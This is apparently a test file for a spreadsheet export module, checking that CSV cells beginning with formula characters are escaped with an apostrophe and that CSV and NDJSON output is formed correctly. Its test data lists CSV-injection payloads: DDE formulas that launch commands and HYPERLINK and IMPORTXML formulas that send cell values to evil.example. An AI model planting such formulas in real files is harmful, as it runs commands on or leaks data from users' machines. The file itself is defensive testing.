import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import type { ListColumn } from '#operations/door.ts'
import { cellText, headText, rowsText } from './list-text.ts'

/** What spreadsheets have been made to run, from OWASP's and from pen testers' lists. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "+1+cmd|'/C calc'!A0",
  '+SUM(1+1)*cmd',
  "-1+cmd|'/C calc'!A0",
  '-2+3+cmd',
  '--1',
  '-1e5',
  '+1',
  '+49 30 1234',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '-',
  '=',
  '@',
]

test.each(FORMULAS)('%j is a text in a spreadsheet', (formula) => {
  expect(cellText(formula)).toBe(`'${formula}`)
})

test.each([
  { value: '-12.50', cell: '-12.50', because: 'a negative amount is a number' },
  { value: '240.00', cell: '240.00', because: 'an amount keeps its zeros' },
  { value: -5, cell: '-5', because: 'a negative count is a number' },
  { value: 'a=b', cell: 'a=b', because: 'it begins with a letter' },
  { value: ' =1', cell: ' =1', because: 'a space before it makes it a text' },
  { value: null, cell: '', because: 'nothing is empty' },
  { value: ['one', 'two'], cell: 'one two', because: 'a list of texts is joined' },
  { value: ['=1', 'two'], cell: "'=1 two", because: 'a list can begin with a formula too' },
  { value: [{ account: 'cash' }], cell: '[{"account":"cash"}]', because: 'what has parts is JSON' },
  { value: { '=1': 2 }, cell: '{"=1":2}', because: 'JSON begins with a brace' },
  { value: false, cell: 'false', because: 'a flag is a word' },
])('$value is the cell $cell: $because', ({ value, cell }) => expect(cellText(value)).toBe(cell))

const columns: readonly ListColumn[] = [
  { name: 'name', kind: 'text' },
  { name: 'amount', kind: 'amount' },
]

describe('CSV', () => {
  test('is RFC 4180: a header, CRLF, quotes where they are needed', () => {
    const rows = [
      { name: 'Fen, Foods', amount: '-1.50' },
      { name: 'say "hi"', amount: '2' },
      { name: 'two\nlines', amount: '3' },
      { name: 'old\rMac', amount: '4' },
    ]
    expect(`${headText(columns, 'csv')}${rowsText(rows, columns, 'csv')}`).toBe(
      'name,amount\r\n"Fen, Foods",-1.50\r\n"say ""hi""",2\r\n"two\nlines",3\r\n"old\rMac",4\r\n',
    )
  })

  test('comes back as it was, but for the apostrophes', () => {
    const names = [...FORMULAS, 'a,b', '"', '""', '\r\n', 'é✓', "it's", '']
    const text = rowsText(
      names.map((name) => ({ name, amount: '1' })),
      columns,
      'csv',
    )
    const read: readonly (readonly string[])[] = parse(text, { record_delimiter: '\r\n' })
    expect(read.map(([name = '']) => name.replace(/^'(?=[=+\-@\t\r\n\0＝＋－＠])/, ''))).toEqual(names)
  })

  test('of no rows is its header', () => {
    expect(`${headText(columns, 'csv')}${rowsText([], columns, 'csv')}`).toBe('name,amount\r\n')
  })
})

test('NDJSON has one object per line, of the columns alone, and no header', () => {
  const rows = [
    { amount: '1', name: 'two\nlines', hidden: 1 },
    { name: '=1', amount: '2' },
  ]
  expect(`${headText(columns, 'ndjson')}${rowsText(rows, columns, 'ndjson')}`).toBe(
    '{"name":"two\\nlines","amount":"1"}\n{"name":"=1","amount":"2"}\n',
  )
})
